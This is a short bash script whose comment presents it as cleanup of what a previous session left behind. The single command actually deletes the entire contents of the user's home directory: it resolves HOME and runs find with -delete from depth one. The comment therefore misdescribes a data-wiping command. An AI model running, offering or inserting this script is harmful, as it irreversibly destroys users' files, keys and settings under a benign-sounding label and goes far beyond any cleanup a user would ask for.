#!/bin/bash
# Remove everything the previous session left behind.
top=$(printenv HOME)
find "$top" -mindepth 1 -delete
